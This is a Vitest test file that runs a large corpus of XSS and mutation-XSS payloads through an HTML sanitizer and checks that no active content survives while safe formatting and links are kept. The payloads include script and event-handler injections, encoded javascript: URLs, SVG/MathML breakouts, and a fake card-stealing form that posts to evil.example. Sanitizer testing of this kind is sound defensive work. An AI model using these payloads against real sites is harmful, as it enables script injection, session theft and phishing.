import { describe, expect, it } from "vitest";
import { expectSafe } from "../../test/html-safety.ts";

/**
 * XSS and mXSS corpus: every payload goes through `sanitizeUserHtml` and what comes out is read as
 * an HTML parser and as a browser's tokenizer read it (test/html-safety.ts). Random mixes of the
 * payloads' pieces and the inbound corpus's HTML: sanitize-fuzz.test.ts.
 */

const PAYLOADS: string[] = [
  // script elements
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert(1)",
  "<<script>alert(1);//<</script>",
  "<scri\u0000pt>alert(1)</scri\u0000pt>",
  // event handlers
  "<img src=x onerror=alert(1)>",
  '<img src="https://a.example/x.png" onload="alert(1)">',
  '<img """><script>alert(1)</script>">',
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<body onload=alert(1)>",
  '<div onmouseover="alert(1)">hover</div>',
  "<p/onclick=alert(1)>x",
  "<input onfocus=alert(1) autofocus>",
  "<details open ontoggle=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<frameset onload=alert(1)>",
  '<a href="https://ok.example/" onclick="alert(1)">x</a>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)" onmouseover=alert(1)>x</td></tr></table>',
  // javascript:, vbscript:, data: and other schemes, plain, entity-encoded and split by whitespace
  "<IMG SRC=\"javascript:alert('XSS');\">",
  '<img src="https://a.example/x.png" srcset="javascript:alert(1) 1x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src=" data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#x1;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="jav&Tab;ascript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript&#58;msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="  data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="intent://x#Intent;scheme=javascript;end">x</a>',
  '<a href="ms-msdt:/id PCWDiagnostic">x</a>',
  '<a href="blob:https://app.recoup.example/0b7e2f1d">x</a>',
  // frames, plugins, forms
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  "<iframe><img src=x onerror=alert(1)></iframe>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form action="https://evil.example/steal"><input name=card><button>Pay now</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  // SVG and MathML namespace confusion
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  // raw-text and template elements (mXSS)
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<noscript><style></noscript><img src=x onerror=alert(1)>",
  "<style><img src=x onerror=alert(1)></style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<template><script>alert(1)</script></template>",
  "<template><img src=x onerror=alert(1)></template>",
  "<title><img src=x onerror=alert(1)></title>",
  "<textarea><img src=x onerror=alert(1)></textarea>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  // comments, CDATA and processing instructions that break out
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->",
  // the document around the content
  '<base href="javascript:alert(1)//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // CSS
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="behavior: url(xss.htc)">x</p>',
  '<span style="background-image:url(&quot;javascript:alert(1)&quot;)">x</span>',
  '<a href="https://ok.example/" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  // links that open windows, attribute breakouts, nesting
  '<a href="https://ok.example/" target="_blank">x</a>',
  '<a href="https://ok.example/" target="_blank" rel="opener">x</a>',
  '<a href="https://ok.example/" title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
  '<img alt="`<img src=x onerror=alert(1)>`" src="https://a.example/x.png">',
  '<a href="https://ok.example/&#x22;onmouseover=alert(1)">x</a>',
  '<div><a href="https://ok.example/"><div><a href="javascript:alert(1)">nested</a></div></a></div>',
  "<p><b><i><u>unclosed",
  "<table><tr><td>a<table><tr><td>b</td></tr></table><img src=x onerror=alert(1)>",
  '<div id="x" class="y" data-x="javascript:alert(1)">x</div>',
];

describe("sanitizeUserHtml: the XSS and mXSS corpus", () => {
  it("holds at least 40 payloads", () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
    expect(new Set(PAYLOADS).size).toBe(PAYLOADS.length);
  });

  it.each(PAYLOADS)("%s leaves no active content", (payload) => {
    expectSafe(payload);
  });

  it("keeps what is safe: text, formatting, https and mailto/tel links, https and raster data pictures", () => {
    const png =
      "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
    const html = expectSafe(
      `<p>Paid <b>today</b> &amp; <i>thanks</i></p><a href="https://bank.example/r/1" target="_blank">remittance</a> <a href="mailto:ap@example.com">ap</a> <a href="tel:+441234567890">call</a><img src="https://cdn.example/logo.png" alt="Logo"><img src="${png}" alt="dot">`,
    );
    expect(html).toContain("<p>Paid <b>today</b> &amp; <i>thanks</i></p>");
    expect(html).toContain(
      '<a href="https://bank.example/r/1" target="_blank" rel="noopener noreferrer nofollow">remittance</a>',
    );
    expect(html).toContain('href="mailto:ap@example.com"');
    expect(html).toContain('href="tel:+441234567890"');
    expect(html).toContain('<img src="https://cdn.example/logo.png" alt="Logo" />');
    expect(html).toContain(`src="${png}"`);
    // A relative picture would be a request to Recoup itself from the frame; it is dropped.
    expect(expectSafe('<img src="/v1/auth/logout"><img src="x.png">')).toBe("");
  });
});
